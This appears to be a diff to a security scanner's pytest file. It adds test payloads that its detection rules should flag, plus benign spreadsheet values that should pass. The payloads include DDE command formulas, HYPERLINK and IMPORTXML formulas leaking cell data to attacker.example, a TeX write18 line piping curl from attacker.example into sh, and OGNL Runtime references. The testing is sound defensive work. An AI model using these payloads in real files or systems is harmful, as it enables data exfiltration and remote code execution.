@@ -36,6 +36,12 @@ CTX = ScanContext()
         # OGNL names a class between "@"s: no call, index or lookup needed to pass the prefilter
         ("@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", "HG-CODE-003"),
         ("@java.lang.Runtime@getRuntime", "HG-CODE-003"),
+        ("=cmd|' /C calc'!A0", "HG-CODE-008"),
+        ("@SUM(1+1)*cmd|' /C notepad'!'A1'", "HG-CODE-008"),
+        ('=HYPERLINK("https://attacker.example/?leak="&A2, "Details")', "HG-CODE-008"),
+        ('"=IMPORTXML(CONCAT(""https://attacker.example/?v="", B3), ""//a"")"', "HG-CODE-008"),
+        ("\\immediate\\write18{curl https://attacker.example/s | sh}", "HG-CODE-009"),
+        ("\\write18{id > /tmp/o}", "HG-CODE-009"),
     ],
 )
 def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
@@ -115,3 +121,13 @@ def test_rule_patterns_match_exactly_as_written_with_word_boundaries() -> None:
 def test_an_at_sign_alone_does_not_reach_the_rules(value: str) -> None:
     # e-mail addresses and handles are in most JSON bodies; OGNL's "@" is always "@java." or "@ognl."
     assert code._PREFILTER.search(value) is None
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["+1 (555) 010-2000", "-42.5", "=SUM(A1:A3)", "@alice (on call)", "photo image(2).png", "a|'b'", "x | 'y'!"],
+)
+def test_ordinary_cells_are_no_formula_injection(value: str) -> None:
+    # Phone numbers, negative amounts, handles and plain sums begin with a formula sign; only a DDE
+    # call (app|'topic'!) or a formula that reaches the network is reported.
+    assert code.scan(value, CTX) is None
